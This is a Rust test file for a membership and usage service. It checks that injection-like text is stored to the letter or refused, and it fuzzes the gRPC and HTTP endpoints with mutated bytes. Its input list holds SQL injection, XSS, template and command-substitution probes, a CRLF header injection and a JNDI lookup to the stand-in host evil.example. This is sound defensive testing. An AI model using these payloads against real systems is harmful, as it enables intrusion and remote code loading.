//! Input made to break something: text that other layers might execute, and bytes at random. Text is kept to the letter
//! or refused; bytes are answered, never with a fault of the hub.

use std::collections::BTreeMap;
use std::sync::atomic::{AtomicUsize, Ordering};

use futures::StreamExt;
use prost::Message;
use prost_types::{Struct, Value as ProtoValue, value::Kind};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serde_json::{Value, json};
use upbridge_client::{Code, v1};

use crate::harness::{
    HubProcess, MEMBER_PASSWORD, RawClient, TestDatabase, TestHub, at, keyed, record, register, usage,
};

const TEXTS: [&str; 10] = [
    "' OR 1=1 --",
    "\"; DROP TABLE users; --",
    "'; DELETE FROM creatorup_usage; --",
    "%",
    "_",
    "\\",
    "<script>alert(1)</script>",
    "{{7*7}} ${jndi:ldap://evil.example/a} $(id) `id`",
    "\u{202e}\u{feff}e\u{301} 🦀\r\nset-cookie: a=b\t\u{1b}[31m",
    "$1 ? :name @p1",
];

#[tokio::test(flavor = "multi_thread")]
async fn text_that_looks_like_code_is_stored_to_the_letter() {
    let hub = TestHub::start().await;
    let member = hub.subscriber(2).await;
    let mut service = member.client.usage();
    for text in TEXTS {
        let value = ProtoValue { kind: Some(Kind::StringValue(text.into())) };
        let metadata = Some(Struct { fields: BTreeMap::from([(text.to_owned(), value)]) });
        let data = v1::UsageData { batch_type: text.chars().take(50).collect(), metadata, ..usage(text) };
        let recorded = service.record_usage(keyed(text, data.clone())).await.unwrap().into_inner();
        let stored = recorded.usage.unwrap();
        assert_eq!((stored.batch_name.as_str(), stored.idempotency_key.as_deref()), (text, Some(text)));
        assert_eq!((&stored.batch_type, &stored.metadata), (&data.batch_type, &data.metadata));
        let again = service.record_usage(keyed(text, data.clone())).await.unwrap().into_inner();
        assert!(again.duplicate, "{text:?} is found by its own key and no other");
        // A filter matches what is equal to it, and no wildcard more.
        let filter = v1::ListUsageRequest { batch_type: Some(data.batch_type.clone()), ..Default::default() };
        let listed = service.list_usage(filter).await.unwrap().into_inner().usage;
        assert_eq!(listed.iter().map(|usage| &usage.batch_name).collect::<Vec<_>>(), [text]);
        let none = v1::ListUsageRequest { usage_type: Some(text.chars().take(50).collect()), ..Default::default() };
        assert_eq!(service.list_usage(none).await.unwrap().into_inner().usage.len(), 0);
        let refused = record(v1::UsageData { usage_type: text.chars().take(50).collect(), ..usage("b") });
        assert_eq!(service.record_usage(refused).await.unwrap_err().code(), Code::PermissionDenied, "{text}");
        let feature: String = text.chars().take(50).collect();
        let asked = v1::CheckFeatureAccessRequest { feature: feature.clone(), ..Default::default() };
        let access = member.client.membership().check_feature_access(asked).await.unwrap().into_inner();
        assert_eq!((access.feature.as_str(), access.reason()), (feature.as_str(), v1::AccessReason::FeatureUnknown));
    }
    assert_eq!(hub.database.count("SELECT COUNT(*) FROM creatorup_usage").await, TEXTS.len() as i64);
}

#[tokio::test(flavor = "multi_thread")]
async fn text_that_looks_like_code_is_a_name_a_password_and_no_way_in() {
    let hub = TestHub::start().await;
    let (client, admin) = (hub.client().await, hub.admin().await);
    for (index, text) in TEXTS.into_iter().enumerate() {
        let email = format!("member-{index}@test.example");
        let password = format!("{text} {text} long");
        let request = v1::RegisterRequest {
            email: email.clone(),
            password: password.clone(),
            name: text.into(),
            ..Default::default()
        };
        let registered = client.auth().register(request.clone()).await.unwrap().into_inner();
        assert_eq!(registered.user.unwrap().name, text);
        let login = |email: &str, password: &str| v1::LoginRequest { email: email.into(), password: password.into() };
        client.auth().login(login(&email, &password)).await.unwrap();
        for (email, password) in [(text, MEMBER_PASSWORD), (email.as_str(), text), (&*format!("{email}{text}"), text)] {
            let refused = client.auth().login(login(email, password)).await.unwrap_err();
            assert_eq!(refused.code(), Code::Unauthenticated, "{text}");
        }
        let named = v1::RegisterRequest { email: "x@test.example".into(), username: Some(text.into()), ..request };
        let refused = client.auth().register(named).await.unwrap_err();
        assert_eq!(upbridge_client::field_violations(&refused)[0].0, "username", "{text}");
        let search = v1::ListUsersRequest { query: Some(text.into()), ..Default::default() };
        let found = admin.users().list_users(search).await.unwrap().into_inner().users;
        let names: Vec<_> = found.iter().map(|user| user.name.as_str()).collect();
        // Others may hold it as a part; nobody is found by what it would mean elsewhere.
        assert!(names.contains(&text) && names.iter().all(|name| name.contains(text)), "{text:?} finds {names:?}");
        let plan = v1::CreatePlanRequest { name: text.into(), tier: v1::Tier::Membership.into(), ..Default::default() };
        let made = admin.membership().create_plan(plan).await.unwrap().into_inner().plan.unwrap();
        assert_eq!(made.name, text);
        let chosen = v1::SubscribeRequest { plan_id: None, plan: Some(text.into()) };
        let held = client.with_bearer(&registered.token).membership().subscribe(chosen).await.unwrap().into_inner();
        assert_eq!(held.subscription.unwrap().plan_id, made.id);
    }
    assert_eq!(hub.database.count("SELECT COUNT(*) FROM users").await, TEXTS.len() as i64 + 1);
}

/// Changes a few bytes at random: flipped, overwritten, doubled, cut out, cut off.
fn mutate(random: &mut StdRng, bytes: &[u8]) -> Vec<u8> {
    let mut bytes = bytes.to_vec();
    for _ in 0..random.random_range(1..=6) {
        if bytes.is_empty() {
            bytes.push(random.random());
        }
        let at = random.random_range(0..bytes.len());
        match random.random_range(0..6) {
            0 => bytes[at] ^= 1 << random.random_range(0..8),
            1 => bytes[at] = random.random(),
            2 => bytes[at] = *b"\"\\{}[]:,0-e\0\xff".get(random.random_range(0..13)).unwrap(),
            3 => drop(bytes.remove(at)),
            4 => {
                let until = (at + random.random_range(0..16)).min(bytes.len());
                let piece = bytes[at..until].to_vec();
                bytes.splice(at..at, piece);
            }
            _ if random.random_bool(0.2) => bytes.truncate(at),
            _ => bytes.insert(at, random.random()),
        }
    }
    bytes
}

/// The same every time, so that what it finds can be found again.
const SEED: u64 = 0x7570_6272;
const MESSAGES: usize = 1000;

#[tokio::test(flavor = "multi_thread")]
async fn random_bytes_are_answered_and_never_with_a_fault_of_the_hub() {
    let database = TestDatabase::new().await;
    let hub = HubProcess::start(&database);
    let member = register(&hub.client().await, Some(2)).await;
    let raw = RawClient::connect(hub.url("")).await.with_bearer(&member.token);
    let http = reqwest::Client::new();
    let mut random = StdRng::seed_from_u64(SEED);
    let text = json!({ "usage_data": {
        "batch_name": "bätch", "batch_type": "video", "usage_type": "local_rendering", "usage_amount": 3,
        "month_year": "2024-01", "completed_at": "2024-01-15T10:30:00.000Z", "usage_id": "key",
        "metadata": { "count": 5, "ratio": -1.5e3, "list": [null, true, { "deep": "\\u00e4" }] },
    } });
    let number = ProtoValue { kind: Some(Kind::NumberValue(5.5)) };
    let message = record(v1::UsageData {
        usage_amount: Some(3),
        month_year: Some("2024-01".into()),
        completed_at: at("2024-01-15T10:30:00Z"),
        usage_id: Some("key".into()),
        metadata: Some(Struct { fields: BTreeMap::from([("count".to_owned(), number)]) }),
        ..usage("batch")
    });
    let (text, message) = (text.to_string(), message.encode_to_vec());
    let inputs: Vec<_> =
        (0..MESSAGES).map(|_| (mutate(&mut random, &message), mutate(&mut random, text.as_bytes()))).collect();
    let (done, refused) = (AtomicUsize::new(0), AtomicUsize::new(0));
    let send = async |(message, body): (Vec<u8>, Vec<u8>)| {
        if let Err(status) = raw.call("/upbridge.v1.UsageService/RecordUsage", message.clone()).await {
            let known = [Code::InvalidArgument, Code::PermissionDenied, Code::ResourceExhausted];
            assert!(known.contains(&status.code()), "{status} to {message:?}");
            refused.fetch_add(1, Ordering::Relaxed);
        }
        let request = http.post(hub.url("/api/v1/creatorup/sync/usage")).bearer_auth(&member.token);
        let answer = request.body(body.clone()).send().await.unwrap();
        let (status, said) = (answer.status(), answer.json::<Value>().await);
        let what = || format!("{status} to {}", String::from_utf8_lossy(&body));
        assert!(status.is_success() || status.is_client_error(), "{}", what());
        assert_eq!(said.unwrap_or_else(|error| panic!("{error}: {}", what()))["success"], status.is_success());
        refused.fetch_add(usize::from(!status.is_success()), Ordering::Relaxed);
        done.fetch_add(2, Ordering::Relaxed);
    };
    futures::stream::iter(inputs).for_each_concurrent(16, send).await;
    let (done, refused) = (done.into_inner(), refused.into_inner());
    assert_eq!(done, 2 * MESSAGES);
    assert!(refused > MESSAGES / 2 && refused < done, "{refused} of {done} refused");
    // It goes on, and nothing it logged is an error.
    let client = hub.client().await.with_bearer(&member.token);
    client.usage().record_usage(record(usage("afterwards"))).await.unwrap();
    let stderr = hub.said();
    assert!(!stderr.contains("panicked") && !stderr.contains("ERROR"), "{stderr}");
    assert_eq!(hub.terminate(), Some(0));
    let log = |name: &str| std::fs::read_to_string(database.directory.path().join("logs").join(name)).unwrap();
    assert_eq!((log("error.log").as_str(), log("app.log").contains("panic")), ("", false));
}
